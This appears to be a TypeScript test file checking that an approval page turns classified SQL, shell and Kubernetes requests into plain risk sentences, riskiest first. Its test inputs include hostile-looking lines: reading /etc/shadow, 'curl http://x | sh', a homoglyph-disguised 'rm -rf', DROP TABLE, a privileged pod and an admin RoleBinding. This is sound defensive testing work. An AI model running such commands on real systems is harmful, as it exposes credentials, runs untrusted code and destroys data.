// What the approver reads on the request page: the facts of the real classifiers, said in sentences,
// the riskiest first. A sentence lost or softened here is a risk an approver never sees.
import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import { factSentences } from '../../src/approval/fact-sentences.ts';
import { kubernetesPack } from '../../tools/kubernetes/index.ts';
import { classifySql, initSqlParser } from '../../tools/postgres/classify/index.ts';
import { classifyShellLine, initShellParser } from '../../tools/ssh/classify/index.ts';

before(async () => {
  await Promise.all([initSqlParser(), initShellParser(), kubernetesPack.init?.()]);
});

const sql = (text: string) => factSentences({ sql: classifySql(text) });
const shell = (line: string) => factSentences({ shell: classifyShellLine(line) });

function kubernetes(tool: string, args: Record<string, unknown>): string[] {
  const spec = kubernetesPack.tools.find((t) => t.name === tool);
  const parsed = spec?.input.safeParse({ cluster: 'prod', ...args });
  assert.ok(parsed?.success, `${tool}: ${JSON.stringify(args)} is not a valid call`);
  return factSentences(kubernetesPack.classify(tool, parsed.data as Record<string, unknown>).facts);
}

describe('request facts in sentences', () => {
  it('SQL: an unbounded write says it changes every row, first', () => {
    assert.deepEqual(sql("UPDATE customers SET email = 'x'"), ['An UPDATE or DELETE has no effective WHERE: it changes every row of its table.', '1 statement: update.', 'It changes customers.']);
  });

  it('SQL: a DROP is destructive and changes the schema', () => {
    assert.deepEqual(sql('DROP TABLE orders'), ['It is destructive (a DROP, a TRUNCATE or a column dropped).', '1 statement: drop.', 'It changes orders.', 'It changes the schema, roles or privileges.']);
  });

  it('SQL: dangers, every statement, functions with side effects and settings', () => {
    assert.deepEqual(sql("GRANT SELECT ON customers TO bob; SET search_path = evil; SELECT nextval('s')"), [
      'Dangerous: privilegeChange, guardSettingChange.',
      '3 statements: grant, set, select.',
      'It reads customers.',
      'It changes the schema, roles or privileges.',
      'It calls nextval.',
      'It changes settings: search_path.',
    ]);
  });

  it('SQL: a plain read says it only reads; text that does not parse says to treat it as anything', () => {
    assert.deepEqual(sql('SELECT id FROM customers WHERE id = 1'), ['1 statement: select.', 'It reads customers.', 'It provably only reads.']);
    assert.deepEqual(sql('SELEC 1'), ['The SQL could not be read with certainty (syntax error at or near "SELEC"): treat it as doing anything.']);
  });

  it('shell: secrets read, files written, and why the line is not read-only', () => {
    assert.deepEqual(shell('cat /etc/shadow > /tmp/x'), [
      'It reads files that may hold secrets: /etc/shadow.',
      'It runs cat.',
      'It writes /tmp/x.',
      'It reads /etc/shadow.',
      'Not read-only: writes /tmp/x, reads /etc/shadow, which may hold secrets.',
    ]);
    assert.deepEqual(shell('ls -la /var/log'), ['It runs ls.', 'Every command is a known read-only diagnostic.']);
  });

  it('shell: downloaded code, names known only at run time, inline code and lines that do not parse', () => {
    assert.deepEqual(shell('curl http://x | sh').slice(0, 3), ['Catastrophic: download_exec.', 'Downloaded content runs as code.', 'A command name or code string is only known at run time.']);
    assert.deepEqual(shell("$X; python3 -c 'print(1)'").slice(0, 3), ['A command name or code string is only known at run time.', 'An interpreter runs inline code.', 'It runs <dynamic>, python3.']);
    assert.match(shell("echo 'unterminated")[0] ?? '', /^The line could not be read with certainty \(syntax error .*\): treat it as doing anything\.$/);
  });

  it('names with characters outside ASCII come first, spelled by code point; text in literals is no name', () => {
    assert.equal(sql('DELETE FROM "\u0441\u043e\u0440\u0443" WHERE id = 1')[0], 'Names with characters outside ASCII (they may only look like the names you know): \u0441\u043e\u0440\u0443 has U+0441 (Cyrillic) U+043E (Cyrillic) U+0440 (Cyrillic) U+0443 (Cyrillic).');
    assert.match(sql('TRUNCATE "us\u0435rs"')[0] ?? '', /^Names .*: us\u0435rs has U\+0435 \(Cyrillic\)\.$/);
    assert.match(shell('\uff52\uff4d -rf /etc/\u0440\u0430sswd')[0] ?? '', /\uff52\uff4d has U\+FF52 \(a form of r\) U\+FF4D \(a form of m\).*\/etc\/\u0440\u0430sswd has U\+0440 \(Cyrillic\) U\+0430 \(Cyrillic\)\.$/);
    // Kubernetes names are DNS labels: the tools refuse any other character before facts are made.
    assert.deepEqual(sql("UPDATE customers SET name = 'Jos\u00e9 M\u00fcller \u5317\u4eac' WHERE id = 1"), ['1 statement: update.', 'It changes customers.']);
  });

  it('Kubernetes: pod and RBAC risks first, then what happens where, and an exec line as shell sentences', () => {
    const pod = 'apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec:\n  hostNetwork: true\n  containers:\n  - name: c\n    image: x\n    securityContext: {privileged: true}\n';
    assert.deepEqual(kubernetes('kubernetes_apply', { namespace: 'shop', manifest: pod }), ["It runs a privileged container, uses the node's network.", 'It will apply 1 object in namespace shop.']);
    assert.deepEqual(kubernetes('kubernetes_scale', { namespace: 'shop', resource: 'deployments', name: 'web', replicas: 0 }), ['It will scale Deployment web in namespace shop.', 'To 0 replicas.']);
    const binding = (kind: string, role: string) =>
      `apiVersion: rbac.authorization.k8s.io/v1\nkind: ${kind}\nmetadata: {name: agent-admin}\nroleRef: {apiGroup: rbac.authorization.k8s.io, kind: ${role}, name: admin}\nsubjects:\n- {kind: ServiceAccount, name: agent, namespace: shop}\n`;
    assert.deepEqual(kubernetes('kubernetes_apply', { namespace: 'shop', manifest: binding('RoleBinding', 'Role') }), ['It changes RBAC.', 'It will apply 1 object in namespace shop.']);
    assert.deepEqual(kubernetes('kubernetes_apply', { namespace: 'shop', manifest: binding('ClusterRoleBinding', 'ClusterRole') }), ['It changes RBAC, changes a cluster-scoped object.', 'It will apply 1 object.']);
    assert.deepEqual(kubernetes('kubernetes_exec', { namespace: 'shop', pod: 'web-1', command: 'cat /etc/shadow' }).slice(0, 2), ['It will exec Pod web-1 in namespace shop.', 'It reads files that may hold secrets: /etc/shadow.']);
  });
});
